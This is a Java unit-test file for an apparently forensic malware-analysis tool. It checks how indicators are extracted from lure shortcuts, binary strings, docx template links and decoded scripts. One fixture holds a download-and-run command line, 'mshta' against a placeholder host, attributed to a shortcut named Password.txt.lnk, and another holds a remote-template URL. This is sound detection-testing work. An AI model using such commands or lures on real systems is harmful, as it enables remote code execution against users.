package io.ashiato.casefile.artefacts;

import static org.assertj.core.api.Assertions.assertThat;

import io.ashiato.model.Artefact;
import io.ashiato.model.Artefact.Role;
import io.ashiato.model.Confidence;
import io.ashiato.model.EvidenceKind;
import io.ashiato.model.Facts;
import io.ashiato.model.Indicator;
import io.ashiato.model.SampleMatch;
import io.ashiato.model.Trait;
import io.ashiato.model.Trait.Kind;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

class TraitsTest {
    private final ArtefactsMade made = new ArtefactsMade();

    @Test
    void takesWhatAShortcutSaysOfItsMaker() {
        Artefact shortcut = made.add(
                EvidenceKind.SHORTCUT,
                "lure/Password.txt.lnk",
                Facts.builder()
                        .text("machine_id", "DESKTOP-MN3ID9")
                        .text("mac", "00:0C:29:AA:BB:CC")
                        .text("author_sid", "S-1-5-21-1-2-3-1001")
                        .build());
        assertThat(traits())
                .contains(
                        new Trait(Kind.MACHINE_ID, "desktop-mn3id9", List.of(shortcut.id())),
                        new Trait(Kind.MAC_ADDRESS, "00:0c:29:aa:bb:cc", List.of(shortcut.id())),
                        new Trait(Kind.AUTHOR_SID, "S-1-5-21-1-2-3-1001", List.of(shortcut.id())),
                        new Trait(Kind.FILE_NAME, "Password.txt.lnk", List.of(shortcut.id())));
    }

    @Test
    void takesTheTextsOfAProgramAsItsReaderNamesThem() {
        made.add(
                EvidenceKind.PE,
                "a.exe",
                Facts.builder()
                        .text("imphash", "ab".repeat(16))
                        .groups(
                                "strings",
                                List.of(
                                        string("mutex", "Global\\kagerou-7"),
                                        string("url", "http://update-check.example:8080/x"),
                                        string("ipv4", "203.0.113.7:443"),
                                        string("user_agent", "Mozilla/9.9 (own)"),
                                        string("format", "%s: %d"),
                                        string("path", "C:\\Windows\\System32\\")))
                        .build());
        assertThat(values(Kind.MUTEX)).containsExactly("Global\\kagerou-7");
        assertThat(values(Kind.DOMAIN)).containsExactly("update-check.example");
        assertThat(values(Kind.URL)).containsExactly("http://update-check.example:8080/x");
        assertThat(values(Kind.PROGRAM_STRING)).containsExactly("Mozilla/9.9 (own)");
        assertThat(values(Kind.IMPHASH)).hasSize(1);
    }

    /// The reader of programs and the traits must agree on the facts' names.
    @Test
    void knowsTheNamesThatTheReaderGives() {
        byte[] text = "....http://update-check.example/x....Global\\kagerou-7\0\0"
                .replace('.', '\0')
                .replace("update-check\0example", "update-check.example")
                .getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        made.add(
                EvidenceKind.ELF,
                "a.elf",
                Facts.builder()
                        .groups("strings", io.ashiato.readers.Strings.telling(text))
                        .build());
        assertThat(values(Kind.MUTEX)).containsExactly("Global\\kagerou-7");
        assertThat(values(Kind.URL)).containsExactly("http://update-check.example/x");
    }

    @Test
    void whatEverybodyNamesIsNobodysTrait() {
        made.add(
                EvidenceKind.HTML,
                "a.html",
                ArtefactsMade.texts(
                        "urls",
                        "http://www.w3.org/",
                        "https://www.google.com/",
                        "http://192.168.0.1/x",
                        "http://localhost/"));
        assertThat(values(Kind.DOMAIN)).isEmpty();
        assertThat(values(Kind.IP_ADDRESS)).isEmpty();
        assertThat(values(Kind.URL)).containsExactly("http://192.168.0.1/x", "http://localhost/");
    }

    @Test
    void aLinkInADocumentIsNoTemplate() {
        made.add(EvidenceKind.OOXML, "a.docx", ArtefactsMade.target("hyperlink", "https://shop.example/"));
        made.add(
                EvidenceKind.OOXML,
                "b.docx",
                ArtefactsMade.target("attachedTemplate", "http://update-check.example/t.dotm"));
        assertThat(values(Kind.TEMPLATE_ADDRESS)).containsExactly("http://update-check.example/t.dotm");
        assertThat(values(Kind.DOMAIN)).containsExactly("shop.example", "update-check.example");
    }

    @Test
    void ofWhatWasMadeInReadingNoDigestIsATrait() {
        Artefact script = made.add(EvidenceKind.SCRIPT, "a.ps1", Facts.NONE);
        made.inside(script, Role.DECODED, EvidenceKind.SCRIPT, "layer 1", Facts.NONE);
        assertThat(values(Kind.SHA256)).containsExactly(script.sha256());
    }

    @Test
    void lureIndicatorsJoinThoseOfEvents() {
        Artefact shortcut = made.add(EvidenceKind.SHORTCUT, "Password.txt.lnk", Facts.NONE);
        Facts facts = Facts.builder()
                .text("command_line", "mshta http://update-check.example/e")
                .texts("urls", List.of("http://update-check.example/e"))
                .build();
        made.inside(shortcut, Role.COMMAND, EvidenceKind.COMMAND_LINE, "command", facts);
        var seen = new Indicator(
                "I-001",
                Indicator.Kind.DOMAIN,
                "update-check.example",
                Indicator.Role.CONTACTED,
                Optional.empty(),
                Optional.empty(),
                Confidence.HIGH,
                List.of("F-001"),
                List.of(),
                true);
        List<Indicator> joined = LureIndicators.join(
                List.of(seen), made.all(), DeliveryChains.of(made.all(), List.of()), List.<SampleMatch>of());

        assertThat(joined)
                .extracting(Indicator::id)
                .doesNotHaveDuplicates()
                .first()
                .isEqualTo("I-001");
        assertThat(joined.getFirst()).satisfies(indicator -> {
            assertThat(indicator.role()).isEqualTo(Indicator.Role.CONTACTED);
            assertThat(indicator.findings()).containsExactly("F-001");
            assertThat(indicator.artefacts()).containsExactly("A-002");
        });
        assertThat(joined)
                .filteredOn(indicator -> indicator.kind() == Indicator.Kind.URL)
                .singleElement()
                .satisfies(url -> assertThat(url.role()).isEqualTo(Indicator.Role.LURE));
        assertThat(joined)
                .filteredOn(indicator -> indicator.kind() == Indicator.Kind.SHA256)
                .extracting(Indicator::value)
                .containsExactly(shortcut.sha256());
    }

    private static Facts string(String looks, String text) {
        return Facts.builder()
                .text("text", text)
                .text("looks", looks)
                .number("offset", 0)
                .build();
    }

    private List<String> values(Kind kind) {
        return traits().filter(trait -> trait.kind() == kind).map(Trait::value).toList();
    }

    private Stream<Trait> traits() {
        return Traits.of(made.all(), List.of(), List.of()).stream();
    }
}
